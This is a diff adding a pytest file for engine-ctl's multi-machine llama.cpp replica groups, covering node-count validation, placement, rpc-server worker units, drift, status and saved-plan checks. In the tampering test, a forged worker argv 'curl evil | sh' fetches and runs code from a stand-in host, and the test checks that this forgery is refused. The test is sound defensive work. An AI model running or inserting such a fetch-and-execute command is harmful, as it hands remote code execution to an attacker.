@@ -1,0 +1,265 @@
+"""A replica bigger than one machine (issue 30), pure: spec.nodes in the documents and its refusals, the placement
+of a replica group, its units (the head's llama-server with --rpc, each worker's rpc-server), the plan that shows
+it as one replica with its members, and drift and status that name a member. No hosts needed."""
+
+from __future__ import annotations
+
+import pytest
+from engine_ctl.providers import LLAMACPP, PROVIDERS
+
+from engine_ctl.cli.views.plan import plan_text
+from engine_ctl.core.documents.inventory import Host, Inventory
+from engine_ctl.core.fit.hostfacts import HostFacts, UnitFact
+from engine_ctl.core.plan.planner import Plan, make_plan
+from engine_ctl.core.plan.savedplan import decode_plan, tampering
+from engine_ctl.core.plan.status import deployment_status
+from engine_ctl.core.record.model import DeploymentRecord, MemberRecord, ReplicaRecord, State
+from tests.fleetfacts import cpu_host
+from tests.helpers import deployment, load, messages
+from tests.test_plan_core import SHAPE, desired
+
+LLAMA = "/opt/llama/bin/llama-server"
+
+
+# --- the document ---------------------------------------------------------------------------------------------
+
+
+def test_nodes_2_on_llamacpp_is_valid_and_loads() -> None:
+    result, diags = deployment("model: llama-3-2-3b\naccelerator: cpu\nnodes: 2")
+    assert messages(diags) == []
+    assert result.desired.deployments[0].deployment.node_count == 2
+
+
+def test_nodes_left_out_is_1_and_not_recorded() -> None:
+    """Deployments written before spec.nodes keep their digest: nodes 1 is not in the recorded spec."""
+    result, _ = deployment("model: llama-3-2-3b\naccelerator: cpu")
+    d = result.desired.deployments[0].deployment
+    assert d.node_count == 1 and "nodes" not in d.model_dump()
+    written, _ = deployment("model: llama-3-2-3b\naccelerator: cpu\nnodes: 1")
+    assert written.desired.deployments[0].deployment.model_dump() == d.model_dump()
+
+
+def _nodes_error(spec: str) -> tuple[str, str]:
+    _, diags = deployment(spec)
+    errs = [d for d in diags if d.severity == "error"]
+    assert len(errs) == 1, [d.render() for d in errs]
+    return errs[0].render(), errs[0].code
+
+
+def test_an_engine_without_a_distributed_runtime_is_refused_at_file_line_col(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(type(LLAMACPP), "multi_node", False)
+    rendered, code = _nodes_error("model: llama-3-2-3b\naccelerator: cpu\nnodes: 2")
+    assert code == "nodes_unsupported"
+    assert (
+        rendered.startswith("1-d.yaml:5:10: error: ")
+        and "llama.cpp does not spread a replica over machines" in rendered
+    )
+
+
+def test_each_engine_refuses_nodes_exactly_when_its_provider_has_no_distributed_runtime() -> None:
+    for engine, provider in PROVIDERS.items():
+        fmt = "gguf" if "gguf" in provider.formats else "safetensors"
+        model = f"kind: Model\nmetadata: {{name: q}}\nspec: {{format: {fmt}, path: /srv/q, context_length: 4096}}\n"
+        _, diags = load(model, f"metadata: {{name: chat}}\nspec: {{model: q, engine: {engine}, nodes: 2}}\n")
+        refused = any(d.code == "nodes_unsupported" and "does not spread a replica" in d.message for d in diags)
+        assert refused == (not provider.multi_node), (engine, [d.render() for d in diags])
+
+
+@pytest.mark.parametrize("value", [0, 17])
+def test_nodes_between_1_and_16(value: int) -> None:
+    rendered, code = _nodes_error(f"model: llama-3-2-3b\naccelerator: cpu\nnodes: {value}")
+    assert code == "out_of_range" and "spec.nodes: between 1 and 16 machines per replica" in rendered
+
+
+def test_a_group_on_demand_is_refused() -> None:
+    rendered, code = _nodes_error("model: llama-3-2-3b\naccelerator: cpu\nnodes: 2\nreplicas: {min: 0, max: 1}")
+    assert code == "nodes_unsupported" and "spec.replicas.min must equal max" in rendered
+
+
+def test_the_flat_form_keeps_refusing_a_topology_at_file_line_col() -> None:
+    _, diags = load("name: chat\nengine: llamacpp\nmodel: tiny/tiny.gguf\nnodes: 2\n")
+    (err,) = [d for d in diags if d.severity == "error"]
+    assert err.code == "topology_refused"
+    assert err.render().startswith("0-d.yaml:4:1: error: ")
+    assert "a topology is refused: a flat-form deployment runs on one machine" in err.message
+    assert err.hint is not None and "spec.nodes" in err.hint
+
+
+# --- placement and the plan -------------------------------------------------------------------------------------
+
+
+def _world(
+    *facts: HostFacts, labels: dict[str, dict[str, str]] | None = None
+) -> tuple[Inventory, dict[str, HostFacts]]:
+    hosts = tuple(
+        Host(name=f.host, address=f"10.0.0.{i}", models_dir="/srv/models", engines={"llama.cpp": LLAMA},
+             labels=(labels or {}).get(f.host, {}))
+        for i, f in enumerate(facts, start=1)
+    )  # fmt: skip
+    return Inventory(hosts=hosts), {f.host: f for f in facts}
+
+
+def _plan(state: State, inv: Inventory, facts: dict[str, HostFacts], spec: str = "accelerator: cpu, nodes: 2") -> Plan:
+    return make_plan(desired(spec), state, inv, facts, {"m": SHAPE})
+
+
+def test_a_group_is_placed_on_two_hosts_as_one_replica_with_its_members() -> None:
+    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
+    plan = _plan(State(), inv, facts)
+    (c,) = plan.changes
+    (r,) = c.replicas  # one replica: the head, with its worker
+    assert r.action == ["create"] and r.host == "c1" and len(r.members) == 1
+    (m,) = r.members
+    assert m.host != r.host and m.unit == "engine-ctl-chat-0a-w1.service"
+    assert m.argv == ["/opt/llama/bin/ggml-rpc-server", "--host", "10.0.0.2", "--port", str(m.port), "--threads", "4"]
+    assert r.argv[r.argv.index("--rpc") + 1] == f"10.0.0.2:{m.port}"
+    assert r.argv[r.argv.index("--n-gpu-layers") + 1] == "all"
+    # the worker accepts only the group's hosts; its unit's sha256 is in the head's (a member's change is the replica's)
+    assert m.unit_text is not None and "IPAddressAllow=localhost 10.0.0.1 10.0.0.2\n" in m.unit_text
+    assert r.unit_text is not None and f"sha256 {m.unit_sha256}" in r.unit_text
+    text = plan_text(plan)
+    assert "group of 2 machines: head on c1 (port 8000, 2 cores, serves the API)" in text
+    assert f"member 1 on c2: engine-ctl-chat-0a-w1.service (port {m.port}, 2 cores)" in text
+    assert "argv: /opt/llama/bin/ggml-rpc-server --host 10.0.0.2" in text
+    assert plan.summary() == {"add": 1, "change": 0, "destroy": 0}
+
+
+def test_a_group_prefers_hosts_that_share_labels_with_its_head() -> None:
+    labels = {"c1": {"rack": "r1"}, "c2": {"rack": "r2"}, "c3": {"rack": "r1"}}
+    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"), labels=labels)
+    (r,) = _plan(State(), inv, facts).changes[0].replicas
+    assert r.host == "c1" and [m.host for m in r.members] == ["c3"]
+
+
+def test_runtime_ports_are_checked_free_like_engine_ports() -> None:
+    busy = cpu_host("c2").model_copy(update={"ports_in_use": (8000, 8001)})
+    inv, facts = _world(cpu_host("c1"), busy)
+    (r,) = _plan(State(), inv, facts).changes[0].replicas
+    assert r.members[0].port == 8002
+    assert r.placement is not None and r.placement.group_port == 8001  # beside the head's own port 8000
+
+
+def test_a_group_waits_for_enough_machines() -> None:
+    inv, facts = _world(cpu_host("c1"))
+    (c,) = _plan(State(), inv, facts, "accelerator: cpu, nodes: 3").changes
+    assert not c.replicas
+    assert c.pending_reason is not None and c.pending_reason.startswith("Waiting for 3 machines for one replica group")
+
+
+def test_each_member_must_fit() -> None:
+    small = cpu_host("c2", cores=1)
+    inv, facts = _world(cpu_host("c1"), small)
+    (c,) = _plan(State(), inv, facts).changes
+    assert c.pending_reason is not None and "member 1: Waiting for a machine with 2 free CPU cores" in c.pending_reason
+
+
+# --- apply's record, drift and status ---------------------------------------------------------------------------
+
+
+def _applied(plan: Plan, facts: dict[str, HostFacts]) -> tuple[State, dict[str, HostFacts]]:
+    """What a successful apply records, and the units the hosts then have (head and workers running)."""
+    state = State(lineage=plan.state_lineage)
+    units: dict[str, list[UnitFact]] = {h: list(f.units) for h, f in facts.items()}
+    for c in plan.changes:
+        rec = state.deployments.setdefault(c.name, DeploymentRecord(name=c.name, id=c.deployment_id))
+        for r in c.replicas:
+            assert r.placement is not None
+            members = [MemberRecord(rank=m.rank, host=m.host, unit=m.unit, port=m.port, unit_sha256=m.unit_sha256,
+                                    argv=m.argv) for m in r.members]  # fmt: skip
+            rec.replicas.append(ReplicaRecord(
+                index=r.index, slot=r.slot, host=r.host, unit=r.unit, port=r.port, unit_sha256=r.unit_sha256 or "",
+                revision=r.revision, argv=r.argv, status="serving", group_port=r.placement.group_port,
+                members=members,
+            ))  # fmt: skip
+            for host, unit, sha in [
+                (r.host, r.unit, r.unit_sha256),
+                *((m.host, m.unit, m.unit_sha256) for m in r.members),
+            ]:
+                units[host].append(UnitFact(name=unit, sha256=sha, active_state="active", sub_state="running"))
+        rec.revision, rec.spec, rec.model, rec.spec_hash, rec.plan = c.revision, c.spec, c.model, c.spec_hash, c.fit
+        rec.state, rec.chosen = "Ready", dict(c.chosen)
+    return state, {h: f.model_copy(update={"units": tuple(units[h])}) for h, f in facts.items()}
+
+
+def _served(facts: dict[str, HostFacts], state: State) -> dict[str, HostFacts]:
+    (r,) = state.deployments["chat"].replicas
+    head = facts[r.host].model_copy(update={"health": {str(r.port): "200"}})
+    return {**facts, r.host: head}
+
+
+def test_a_group_served_as_written_plans_no_changes_and_its_record_reads_back() -> None:
+    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
+    state, facts = _applied(_plan(State(), inv, facts), facts)
+    again = _plan(state, inv, facts)
+    assert not again.has_changes, plan_text(again)
+    assert State.model_validate_json(state.model_dump_json()) == state
+    status = deployment_status(state.deployments["chat"], _served(facts, state))
+    assert status.state == "Ready" and [i.state for i in status.instances] == ["ready"]
+
+
+def test_a_stopped_worker_is_drift_of_the_replica_and_status_names_the_member() -> None:
+    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
+    state, facts = _applied(_plan(State(), inv, facts), facts)
+    (r,) = state.deployments["chat"].replicas
+    (m,) = r.members
+    dead = tuple(u.model_copy(update={"active_state": "failed", "sub_state": "failed", "exec_main_status": 9})
+                 if u.name == m.unit else u for u in facts[m.host].units)  # fmt: skip
+    facts = {**facts, m.host: facts[m.host].model_copy(update={"units": dead})}
+    status = deployment_status(state.deployments["chat"], _served(facts, state))
+    (inst,) = status.instances
+    assert inst.state == "failed"
+    assert inst.last_error == (f"group member 1 ({m.unit}) on {m.host} is failed/failed (exit status 9): the group "
+                               "is out of service")  # fmt: skip
+    again = _plan(state, inv, facts)
+    assert again.has_changes
+    (rc,) = again.changes[0].replicas
+    assert rc.action == ["update"] and rc.unit == r.unit and [x.unit for x in rc.members] == [m.unit]
+    assert f"group member 1: {m.unit} is failed/failed" in rc.reason
+    assert any(d.unit == m.unit and d.host == m.host for d in again.drift)
+
+
+def test_an_edited_worker_unit_is_drift_of_the_replica() -> None:
+    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
+    state, facts = _applied(_plan(State(), inv, facts), facts)
+    (m,) = state.deployments["chat"].replicas[0].members
+    edited = tuple(u.model_copy(update={"sha256": "0" * 64}) if u.name == m.unit else u for u in facts[m.host].units)
+    facts = {**facts, m.host: facts[m.host].model_copy(update={"units": edited})}
+    (rc,) = _plan(state, inv, facts).changes[0].replicas
+    assert rc.action == ["update"] and "group member 1: unit file edited by hand" in rc.reason
+
+
+def test_destroying_a_group_removes_its_members_with_the_head() -> None:
+    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
+    state, facts = _applied(_plan(State(), inv, facts), facts)
+    plan = make_plan(desired("accelerator: cpu, nodes: 2").model_copy(update={"deployments": ()}), state, inv, facts,
+                     {"m": SHAPE})  # fmt: skip
+    (rc,) = plan.changes[0].replicas
+    assert rc.action == ["delete"] and [m.unit for m in rc.old_members] == ["engine-ctl-chat-0a-w1.service"]
+    assert "- group member 1 on c2: engine-ctl-chat-0a-w1.service (removed with the head)" in plan_text(plan)
+
+
+# --- a saved plan and the provider ------------------------------------------------------------------------------
+
+
+def test_a_saved_plan_carries_the_group_and_a_forged_worker_is_refused() -> None:
+    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
+    plan = _plan(State(), inv, facts)
+    hosts = {h.name: h for h in inv.hosts}
+    decoded = decode_plan(plan.model_dump_json())
+    assert decoded is not None and tampering(decoded, hosts) == []
+    (r,) = decoded.changes[0].replicas
+    assert r.placement is not None and len(r.placement.members) == 1 and r.members[0].unit_text
+    r.members[0].argv = ["/bin/sh", "-c", "curl evil | sh"]
+    (problem,) = tampering(decoded, hosts)
+    assert "the group's members differ from what engine-ctl renders" in problem
+
+
+def test_the_llamacpp_group_argv_as_its_rpc_readme_describes() -> None:
+    """llama.cpp tools/rpc/README.md: `rpc-server --host H --port P` on each worker, `--rpc H:P,…` on the head."""
+    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
+    (r,) = _plan(State(), inv, facts, "accelerator: cpu, nodes: 3").changes[0].replicas
+    workers = ",".join(f"{m.argv[2]}:{m.port}" for m in r.members)
+    assert r.argv[r.argv.index("--rpc") + 1] == workers and r.argv.count("--n-gpu-layers") == 1
+    assert [m.argv[:3] for m in r.members] == [
+        ["/opt/llama/bin/ggml-rpc-server", "--host", f"10.0.0.{i}"] for i in (2, 3)
+    ]
